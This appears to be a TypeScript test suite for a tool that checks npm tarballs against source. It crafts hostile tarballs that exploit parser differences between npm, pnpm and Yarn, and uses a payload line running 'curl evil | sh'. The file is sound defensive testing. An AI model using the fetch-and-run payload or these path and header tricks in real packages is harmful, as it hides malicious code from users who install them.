/**
 * Hostile tarballs against source match: entries npm, pnpm or Yarn place somewhere else than
 * where the comparison read them (or that one of them installs and the comparison never saw)
 * must never come out `match` or `built`.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gunzipSync, gzipSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { compareContents } from '../src/verify/compare';
import { listTarball } from '../src/verify/tarball';
import { rawTarball, type RawEntry } from './helpers/raw-tar';

const manifest = JSON.stringify({ name: 'p', version: '1.0.0', main: 'index.js' });
const GOOD = 'module.exports = 1;\n';
const EVIL = 'require("child_process").exec("curl evil | sh");\n';
const source = new Map([
  ['package.json', Buffer.from(manifest)],
  ['index.js', Buffer.from(GOOD)],
]);

async function verdictOf(entries: RawEntry[]) {
  const tarball = await listTarball(rawTarball([{ path: 'package/package.json', data: manifest }, ...entries]));
  return compareContents({ tarball, source, expected: [...source.keys()], commit: 'c'.repeat(40), commitFrom: 'gitHead', anomalies: tarball.anomalies });
}

/** What npm itself (pacote, as `npm install` extracts) writes for this tarball. */
async function npmInstalls(entries: RawEntry[]): Promise<string> {
  const pacote = require('pacote') as typeof import('pacote');
  const dir = mkdtempSync(join(tmpdir(), 'pg-hostile-'));
  try {
    writeFileSync(join(dir, 'p.tgz'), rawTarball([{ path: 'package/package.json', data: manifest }, ...entries]));
    await pacote.extract(`file:${join(dir, 'p.tgz')}`, join(dir, 'out'), { cache: join(dir, 'cache') });
    return readFileSync(join(dir, 'out', 'index.js'), 'utf8');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

describe('tarball entries read elsewhere than an installer writes them', () => {
  test('a plain tarball with directory entries still matches', async () => {
    expect((await verdictOf([{ path: 'package/', type: '5' }, { path: 'package/index.js', data: GOOD }])).verdict).toBe('match');
  });

  test.each<[string, RawEntry[]]>([
    // npm on Linux keeps `\` in the name: index.js stays EVIL, the backslash copy lands elsewhere.
    ['a backslash path after the real file', [{ path: 'package/index.js', data: EVIL }, { path: 'package\\index.js', data: GOOD }]],
    // node-tar strips the first component before the leading `/`: npm writes package/index.js.
    ['an absolute path after the real file', [{ path: 'package/index.js', data: EVIL }, { path: '/package/index.js', data: GOOD }]],
  ])('%s: npm installs code that is not in the source', async (_, entries) => {
    expect(await npmInstalls(entries)).toBe(EVIL);
    const result = await verdictOf(entries);
    expect(result.verdict).toBe('diverged');
  });

  test.each<[string, RawEntry[]]>([
    // pnpm resolves `..` (package/../index.js is its index.js); npm and Yarn drop the entry.
    ['a `..` path', [{ path: 'package/index.js', data: GOOD }, { path: 'package/../index.js', data: EVIL }]],
    // Windows npm and pnpm read a backslash as a separator: this is their index.js.
    ['a backslash `..` path', [{ path: 'package/index.js', data: GOOD }, { path: 'package/x\\..\\index.js', data: EVIL }]],
    ['a `x/..` path', [{ path: 'package/index.js', data: GOOD }, { path: 'package/x/../index.js', data: EVIL }]],
    // pnpm takes a path without a `/` as is; npm drops it.
    ['a path with one component', [{ path: 'package/index.js', data: GOOD }, { path: 'index.js', data: EVIL }]],
    ['a PAX path with one component', [{ path: 'package/index.js', data: GOOD }, { path: 'package/zz.js', data: EVIL, pax: { path: 'index.js' } }]],
    // pnpm reads a hard link's body as the file; npm and Yarn drop links.
    ['a hard link with a body', [{ path: 'package/index.js', data: GOOD }, { path: 'package/index.js', type: '1', link: 'package/x', data: EVIL }]],
    // Yarn creates symbolic links.
    ['a symbolic link', [{ path: 'package/evil.js', data: EVIL }, { path: 'package/index.js', type: '2', link: 'evil.js' }]],
    // Yarn normalises `./package/index.js` to package/index.js and strips package/.
    ['a `.` first component', [{ path: './package/index.js', data: EVIL }, { path: 'package/index.js', data: GOOD }]],
    ['an empty component', [{ path: 'package/index.js', data: GOOD }, { path: 'package//index.js', data: EVIL }, { path: 'package/index.js', data: GOOD }]],
    // A case-insensitive file system (macOS, Windows) keeps one file: the last written.
    ['a case-only twin', [{ path: 'package/index.js', data: GOOD }, { path: 'package/INDEX.js', data: EVIL }]],
    ['a Unicode-normalisation twin', [{ path: 'package/index.js', data: GOOD }, { path: 'package/caf\u00e9.js', data: 'a' }, { path: 'package/cafe\u0301.js', data: EVIL }]],
    ['a Windows trailing-dot twin', [{ path: 'package/index.js', data: GOOD }, { path: 'package/index.js.', data: EVIL }]],
    // pnpm stops at the first empty block; node-tar reads on, so the last copy it sees is not pnpm's.
    ['an entry after an empty block', [{ path: 'package/index.js', data: EVIL }, { empty: true }, { path: 'package/index.js', data: GOOD }]],
    // node-tar skips a header whose checksum is wrong and reads the next block as a header.
    ['a header with a wrong checksum', [{ path: 'package/index.js', data: GOOD }, { path: 'package/index.js', data: EVIL, badChecksum: true }]],
  ])('%s: never match or built', async (_, entries) => {
    const result = await verdictOf(entries);
    expect(result.verdict).toBe('diverged');
    expect(result.files!.modified.length).toBeGreaterThan(0);
  });
});

test('a GNU header with a prefix: node-tar reads lib/index.js as index.js (build output), pnpm writes lib/index.js', async () => {
  const main = JSON.stringify({ name: 'p', version: '1.0.0', main: 'lib/index.js' });
  const src = new Map([['package.json', Buffer.from(main)], ['lib/index.js', Buffer.from(GOOD)]]);
  const entries: RawEntry[] = [{ path: 'package/package.json', data: main }, { path: 'package/lib/index.js', data: GOOD }, { path: 'lib/index.js', prefix: 'p', magic: 'ustar  \0', data: EVIL }];
  const tarball = await listTarball(rawTarball(entries));
  expect([...tarball.keys()].sort()).toEqual(['index.js', 'lib/index.js', 'package.json']);
  const result = compareContents({ tarball, source: src, expected: [...src.keys()], commit: 'c'.repeat(40), commitFrom: 'gitHead', anomalies: tarball.anomalies });
  expect(result.verdict).toBe('diverged');
  expect(result.reason).toContain('prefix field');
});

test('a size in base-256: node-tar reads one file (build output), pnpm reads its body as headers', async () => {
  const inner = gunzipSync(rawTarball([{ path: 'package/index.js', data: EVIL }])).subarray(0, 1024);
  const head = gunzipSync(rawTarball([{ path: 'package/package.json', data: manifest }, { path: 'package/index.js', data: GOOD }]));
  const tail = gunzipSync(rawTarball([{ path: 'package/data.bin', data: inner, base256Size: true }]));
  const tarball = await listTarball(gzipSync(Buffer.concat([head.subarray(0, 2048), tail])));
  expect(tarball.get('index.js')?.toString()).toBe(GOOD);
  const result = compareContents({ tarball, source, expected: [...source.keys()], commit: 'c'.repeat(40), commitFrom: 'gitHead', anomalies: tarball.anomalies });
  expect(result.verdict).toBe('diverged');
  expect(result.reason).toContain('not octal');
  // Leading NULs: node-tar reads size 0 (the field ends at its first NUL), pnpm skips them and reads 1 KB of body.
  const nul = gunzipSync(rawTarball([{ path: 'package/package.json', data: manifest }, { path: 'package/a.js', data: '' }]));
  nul.write('\0\0\0\0\0\0\0\0\u00002000', 512 + 512 + 124, 12, 'latin1');
  let sum = 0;
  for (let i = 1024; i < 1024 + 512; i++) sum += i >= 1024 + 148 && i < 1024 + 156 ? 32 : nul[i]!;
  nul.write(sum.toString(8).padStart(6, '0') + '\0 ', 1024 + 148, 8, 'latin1');
  expect((await listTarball(gzipSync(nul))).anomalies?.join()).toContain('not octal');
  // In a PAX header too: the block that decides where the next header is.
  const pax = await listTarball(rawTarball([{ path: 'package/package.json', data: manifest }, { path: 'package/a.js', data: 'a', pax: { comment: 'x' }, paxBase256: true }]));
  expect(pax.anomalies?.join()).toContain('not octal');
});

test.each<[string, RawEntry[]]>([
  // pnpm's second PAX header uses up the first one's path: it writes index.js, node-tar zz.js.
  ['two PAX headers in a row', [{ path: 'package/index.js', data: GOOD }, { path: 'package/index.js', data: EVIL, pax: { path: 'package/zz.js' }, pax2: { comment: 'c' } }]],
  // pnpm reads one record (a comment with a newline), node-tar two lines, the second a path.
  // node-tar reads size NaN (no body), pnpm 1024: they disagree on where the next header is.
  ['a PAX size that is not a number', [{ path: 'package/index.js', data: GOOD }, { path: 'package/zz.js', data: EVIL, paxRaw: '16 size=1024abc\n' }]],
  // pnpm stops at a header whose name starts with NUL; node-tar names it from the PAX path: its index.js is the last copy.
  ['a header with an empty name', [{ path: 'package/index.js', data: EVIL }, { path: '', data: GOOD, pax: { path: 'package/index.js' } }]],
  ['a PAX record with a newline', [{ path: 'package/index.js', data: GOOD }, { path: 'package/index.js', data: EVIL, paxRaw: '35 comment=x\n22 path=package/zz.js\n' }]],
])('%s: node-tar and pnpm place the entry differently', async (_, entries) => {
  const tarball = await listTarball(rawTarball([{ path: 'package/package.json', data: manifest }, ...entries]));
  expect(tarball.get('index.js')?.toString()).toBe(GOOD);
  const result = compareContents({ tarball, source, expected: [...source.keys()], commit: 'c'.repeat(40), commitFrom: 'gitHead', anomalies: tarball.anomalies });
  expect(result.verdict).toBe('diverged');
});

test('npm-style PAX headers (long and non-ASCII names) are not anomalies', async () => {
  const long = `package/${'d'.repeat(90)}/${'e'.repeat(90)}/${'f'.repeat(120)}.js`;
  const tarball = await listTarball(rawTarball([{ path: 'package/package.json', data: manifest }, { path: 'package/x.js', data: 'x', pax: { path: long } }, { path: 'package/y.js', data: 'y', pax: { path: 'package/caf\u00e9.js', mtime: '0' } }]));
  expect(tarball.anomalies).toBeUndefined();
  expect(tarball.size).toBe(3);
});

describe('size', () => {
  test('many case twins of one name are reported without quadratic work', async () => {
    const entries: RawEntry[] = [{ path: 'package/package.json', data: manifest }];
    // 2^15 spellings of one name on a case-insensitive file system.
    for (let n = 0; n < 1 << 15; n++) entries.push({ path: `package/${[...'abcdefghijklmno'].map((c, i) => ((n >> i) & 1 ? c.toUpperCase() : c)).join('')}.js`, data: String(n) });
    const started = Date.now();
    const tarball = await listTarball(rawTarball(entries));
    expect(tarball.anomalies).toHaveLength(1000);
    expect(Date.now() - started).toBeLessThan(10_000);
  }, 60_000);

  test('a tarball with more entries than the limit is refused', async () => {
    const entries: RawEntry[] = Array.from({ length: 20 }, (_, i) => ({ path: `package/${i}.js`, data: '' }));
    await expect(listTarball(rawTarball(entries), 1024, 10)).rejects.toThrow(/more than 10 entries/);
    expect((await listTarball(rawTarball(entries), 1024, 20)).size).toBe(20);
  });

  test('a stream of invalid headers is bounded: in bytes, and in the anomalies kept', async () => {
    const garbage = Buffer.alloc(64 * 1024 * 1024, 'x');
    const started = Date.now();
    await expect(listTarball(gzipSync(garbage), 1024 * 1024, 10)).rejects.toThrow(/more than \d+ bytes/);
    expect(Date.now() - started).toBeLessThan(10_000);
    const some = await listTarball(gzipSync(Buffer.concat([Buffer.alloc(2 * 1024 * 1024, 'x'), Buffer.alloc(1024)])));
    expect(some.anomalies!.length).toBeLessThanOrEqual(1000);
  }, 60_000);
});
